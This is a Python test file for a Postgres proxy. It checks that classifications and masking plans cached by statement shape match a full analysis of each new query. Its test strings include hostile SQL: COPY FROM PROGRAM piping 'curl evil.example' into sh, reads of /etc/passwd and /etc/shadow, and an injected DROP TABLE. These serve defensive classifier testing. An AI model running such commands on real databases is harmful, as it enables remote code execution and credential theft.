"""Analyses cached by statement shape (the text with its constants taken out) see what the constants change.

``classify`` and the masking plan reuse an analysis for a statement whose only difference from one already
analysed is its literals; these tests check that such a reuse always gives what a full analysis of the new
text gives, above all where a constant decides the class (``WHERE 1 = 1`` is destructive, ``WHERE 1 = 2``
is not).
"""

from __future__ import annotations

import itertools
import random
import re
import uuid
from pathlib import Path

import pytest

from pgproxy.config import MaskingConfig, UpstreamConfig
from pgproxy.core.statement import parse
from pgproxy.masking.catalog import CatalogSnapshot, Column, MaskedSchema, Relation
from pgproxy.masking.engine import Masking
from pgproxy.masking.rewrite import rewrite
from pgproxy.masking.rules import MaskingRules, parse_rules
from pgproxy.policy.classify import _classify_tree, classify
from pgproxy.policy.shape import statement_shape


def _fresh(sql: str) -> str:
    """``sql`` on a table name no other test used, so no cache holds its shape yet."""
    return sql.replace("{t}", "t_" + uuid.uuid4().hex[:12])


def _full(sql: str) -> object:
    return _classify_tree(sql, parse(sql))[0]


# Same shape, different classification: the second one must not get the first one's.
SAME_SHAPE_PAIRS = [
    ("DELETE FROM {t} WHERE false", "DELETE FROM {t} WHERE true"),
    ("DELETE FROM {t} WHERE 1 = 2", "DELETE FROM {t} WHERE 1 = 1"),
    ("UPDATE {t} SET a = 1 WHERE 'a' = 'b'", "UPDATE {t} SET a = 1 WHERE 'a' = 'a'"),
    ("UPDATE {t} SET a = 1 WHERE NULL", "UPDATE {t} SET a = 1 WHERE true"),
    ("DELETE FROM {t} WHERE 0::boolean", "DELETE FROM {t} WHERE true::boolean"),
    ("WITH d AS (DELETE FROM {t} WHERE 1 = 0 RETURNING *) SELECT * FROM d",
     "WITH d AS (DELETE FROM {t} WHERE 0 = 0 RETURNING *) SELECT * FROM d"),
]


@pytest.mark.parametrize(("first", "second"), SAME_SHAPE_PAIRS)
@pytest.mark.parametrize("order", ["harmless first", "destructive first"])
def test_a_constant_that_decides_the_class_is_seen_through_the_shape_cache(first: str, second: str,
                                                                           order: str) -> None:
    table = _fresh("{t}")
    harmless, destructive = first.replace("{t}", table), second.replace("{t}", table)
    assert statement_shape(harmless) == statement_shape(destructive) is not None
    for sql in ((harmless, destructive) if order == "harmless first" else (destructive, harmless)):
        assert classify(sql) == _full(sql)
    assert "destructive" in classify(destructive).classes
    assert "destructive" not in classify(harmless).classes


def test_the_statement_text_is_the_new_one() -> None:
    """A classification reused by shape records the text that was sent, not the one first classified."""
    first = _fresh("/* é€ note */ UPDATE {t} SET a = 'x' WHERE id = 5 ;  -- trailing ü")
    second = first.replace("'x'", "'ü€ longer'").replace("= 5", "= 123456")
    assert statement_shape(first) == statement_shape(second)
    classify(first)
    got = classify(second)
    assert got == _full(second)
    assert got.statements[0].sql == "UPDATE " + second.split("UPDATE ", 1)[1].split(";")[0].strip()


def test_copy_program_reasons_name_each_command() -> None:
    first = _fresh("COPY {t} FROM PROGRAM 'true'")
    second = first.replace("'true'", "'curl evil.example | sh'")
    classify(first)
    assert classify(second) == _full(second)
    assert "COPY FROM PROGRAM 'curl evil.example | sh'" in classify(second).reasons


@pytest.mark.parametrize("sql", ["SELECT $1", "SELECT 1 +", "SELECT 'a'\x00; DROP TABLE x", "DO $$ begin end $$"])
def test_no_shape_for_parameters_nul_dollar_quotes_or_unparsable_text(sql: str) -> None:
    assert statement_shape(sql) is None


# Statements of every kind the classifier knows; each constant is replaced by others below.
CORPUS = [
    "SELECT abalance FROM {t} WHERE aid = 1;",
    "UPDATE {t} SET abalance = abalance + 5 WHERE aid = 7;",
    "INSERT INTO {t} (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, 4, CURRENT_TIMESTAMP);",
    "DELETE FROM {t} WHERE id = 1",
    "DELETE FROM {t} WHERE 1 = 1",
    "DELETE FROM {t} WHERE 'x'::text = 'x'",
    "UPDATE {t} SET a = 2 WHERE true",
    "UPDATE {t} SET a = 2 WHERE 1",
    "SELECT 'pg_read_file'::regproc, 'secret'::regclass FROM {t}",
    "SELECT set_config('search_path', 'public', false)",
    "SELECT set_config('role', 'postgres', true) FROM {t}",
    "SELECT pg_read_file('/etc/passwd', 0, 100)",
    "SELECT * FROM {t} WHERE a IN (1, 2, 3) ORDER BY 1 LIMIT 10 OFFSET 5",
    "SELECT * FROM {t} FOR UPDATE",
    "SELECT 1 INTO new_{t} FROM {t}",
    "CREATE TABLE c_{t} AS SELECT 1 AS a FROM {t}",
    "EXPLAIN SELECT * FROM {t} WHERE a = 1",
    "EXPLAIN (ANALYZE 'off') DELETE FROM {t} WHERE 1 = 1",
    "EXPLAIN (ANALYZE 1) DELETE FROM {t}",
    "EXPLAIN ANALYZE DELETE FROM {t} WHERE 'a' = 'b'",
    "COPY {t} TO '/tmp/out.csv'",
    "COPY {t} FROM PROGRAM 'cat /etc/passwd'",
    "COPY (SELECT 1 FROM {t}) TO STDOUT",
    "PREPARE p_{t} AS DELETE FROM {t} WHERE 1 = 1",
    "DECLARE c CURSOR FOR SELECT * FROM {t} WHERE a = 1",
    "EXECUTE p_{t}(1, 'a')",
    "SET statement_timeout = 5",
    "SET search_path = 'public'",
    "ALTER ROLE bob PASSWORD 'secret'",
    "TRUNCATE {t}",
    "DROP TABLE {t}",
    "GRANT SELECT ON {t} TO bob",
    "MERGE INTO {t} t USING (SELECT 1 AS id) s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 3",
    "WITH w AS (UPDATE {t} SET a = 1 WHERE 2 = 2 RETURNING a) SELECT a FROM w",
    "SELECT dblink_exec('host=x', 'DROP TABLE y')",
    "SELECT 1; DELETE FROM {t} WHERE 1 = 1",
    "BEGIN",
    "SELECT now() - interval '1 day', date '2024-01-01', 1.5e3, B'101', X'ff' FROM {t}",
    "CREATE FUNCTION f_{t}() RETURNS int AS 'SELECT 1' LANGUAGE sql",
    "LOCK TABLE {t} IN ACCESS EXCLUSIVE MODE",
]
VALUES = ["0", "1", "2", "-1", "1.5", "'a'", "'b'", "'x'", "true", "false", "NULL", "'pg_read_file'", "'on'",
          "'off'", "'/etc/shadow'", "E'a\\\\b'"]


def _variants(shape: str, rng: random.Random, count: int) -> list[str]:
    """Texts of ``shape`` with other constants (those that parse to the same shape)."""
    slots = len(re.findall(r"\$\d+", shape))
    out = []
    for _ in range(count if slots else 0):
        values = [rng.choice(VALUES) for _ in range(slots)]
        text = re.sub(r"\$(\d+)", lambda m, v=values: v[int(m.group(1)) - 1], shape)
        if statement_shape(text) == shape:
            out.append(text)
    assert out or not slots, f"no variant of {shape!r} parses"
    return out


@pytest.mark.parametrize("template", CORPUS)
def test_every_text_of_a_shape_gets_its_full_classification(template: str) -> None:
    """Property: whatever text of a shape was classified first, the next one is classified as a full parse
    and walk of its own text classifies it."""
    original = _fresh(template)
    shape = statement_shape(original)
    if shape is None:
        pytest.skip("no shape")
    rng = random.Random(template)
    texts = [original, *_variants(shape, rng, 24)]
    for text in texts:
        assert classify(text) == _full(text), text


# ------------------------------------------------------------------------------------------------- masking

def _schema() -> tuple[Masking, MaskedSchema, tuple[str, ...]]:
    def table(oid: int, schema: str, name: str, columns: list[str]) -> Relation:
        return Relation(oid, schema, name, "r", tuple(Column(c, i + 1, "text", "text", "S")
                                                      for i, c in enumerate(columns)))

    relations = {1: table(1, "public", "accounts", ["aid", "note"]), 2: table(2, "shop", "customers",
                                                                               ["id", "email"])}
    names = frozenset((r.schema, r.name) for r in relations.values())
    catalog = CatalogSnapshot(1, relations, {}, {}, {}, frozenset({"my_func"}),
                              {(r.schema, r.name): oid for oid, r in relations.items()}, frozenset(), names,
                              frozenset(n for _, n in names))
    rules = parse_rules({"tables": {"shop.customers": {"columns": {"email": "email"}}}}, Path("rules.yaml"))
    engine = Masking(MaskingConfig(rules_dir=Path(".")), UpstreamConfig.model_construct(), MaskingRules(rules))
    return engine, engine.schema_for(catalog, rules), tuple(r.where for r in rules)


def test_a_pass_is_reused_for_new_literals_and_a_rewrite_is_not() -> None:
    engine, schema, key = _schema()
    first = engine.rewrite(schema, key, "SELECT note FROM accounts WHERE aid = '1'")
    assert first.sql is None and first.refusal is None
    assert engine.rewrite(schema, key, "SELECT note FROM accounts WHERE aid = '2'") is first  # no parse
    one = engine.rewrite(schema, key, "SELECT email FROM customers WHERE id = '1'")
    two = engine.rewrite(schema, key, "SELECT email FROM customers WHERE id = '2'")
    assert one.sql is not None and two.sql is not None and "'2'" in two.sql and "'1'" not in two.sql


@pytest.mark.parametrize("template", [
    "SELECT note FROM accounts WHERE aid = '1'",
    "SELECT email FROM customers WHERE id = '1'",
    "SELECT my_func('a') FROM accounts",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT email::text FROM shop.customers c WHERE c.id = 'x' AND 1 = 1",
    "DELETE FROM customers WHERE email = 'a'",
    "UPDATE customers SET id = 'a' WHERE 1 = 1 RETURNING email",
    "INSERT INTO customers (id, email) VALUES ('1', 'a') ON CONFLICT (email) DO NOTHING",
    "COPY customers TO '/tmp/x'",
    "EXPLAIN SELECT email FROM customers WHERE id = 'a'",
    "SELECT 'customers'::regclass, 'pg_read_file'::regproc FROM accounts",
    "SELECT * FROM nowhere WHERE a = 1",
    "DO 'begin end'",
    "SELECT ctid FROM customers WHERE id = '3'",
])
def test_every_text_of_a_shape_gets_the_masking_plan_of_its_own_text(template: str) -> None:
    engine, schema, key = _schema()
    shape = statement_shape(template)
    assert shape is not None
    for text in [template, *_variants(shape, random.Random(template), 16)]:
        assert engine.rewrite(schema, key, text) == rewrite(text, schema), text


def test_a_plan_cached_by_shape_is_for_one_catalog_version() -> None:
    engine, schema, key = _schema()
    assert engine.rewrite(schema, key, "SELECT lower(note) FROM accounts WHERE aid = '1'").refusal is None
    catalog = schema.catalog
    # the next snapshot: someone created a function named lower, which the unqualified call may reach
    later = CatalogSnapshot(catalog.version + 1, catalog.relations, {}, {}, {}, catalog.routines | {"lower"},
                            catalog.by_name, frozenset(), catalog.names, catalog.unqualified)
    rules = engine.rules.rules
    plan = engine.rewrite(engine.schema_for(later, rules), key, "SELECT lower(note) FROM accounts WHERE aid = '2'")
    assert plan.refusal is not None and "may be a user-defined function" in plan.refusal


def test_shapes_of_the_pgbench_statements_hit() -> None:
    """The statements pgbench sends with new literals share one shape each."""
    templates = ["SELECT abalance FROM pgbench_accounts WHERE aid = {};",
                 "UPDATE pgbench_accounts SET abalance = abalance + {} WHERE aid = {};",
                 "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) "
                 "VALUES ({}, {}, {}, {}, CURRENT_TIMESTAMP);"]
    for template in templates:
        shapes = {statement_shape(template.format(*values))
                  for values in itertools.islice(itertools.product(range(1, 4), repeat=4), 20)}
        assert len(shapes) == 1 and None not in shapes


def test_the_plan_of_a_statement_is_found_again_for_its_audit_record() -> None:
    """``cached`` (what the statement's audit record and result count read) finds a plan reused by shape,
    and only for the catalog version and rule set it was made for."""
    engine, schema, key = _schema()
    version = schema.catalog.version
    engine.rewrite(schema, key, "SELECT note FROM accounts WHERE aid = '10'")
    reused = engine.rewrite(schema, key, "SELECT note FROM accounts WHERE aid = '11'")
    assert engine.cached(version, key, "SELECT note FROM accounts WHERE aid = '11'") is reused
    assert engine.cached(version, key, "SELECT note FROM accounts WHERE aid = '12'") is reused  # same shape
    rewritten = engine.rewrite(schema, key, "SELECT email FROM customers WHERE id = '10'")
    assert engine.cached(version, key, "SELECT email FROM customers WHERE id = '10'") is rewritten
    assert engine.cached(version, key, "SELECT email FROM customers WHERE id = '11'") is None  # never planned
    assert engine.cached(version + 1, key, "SELECT note FROM accounts WHERE aid = '11'") is None
    assert engine.cached(version, key, "SELECT 1 +") is None
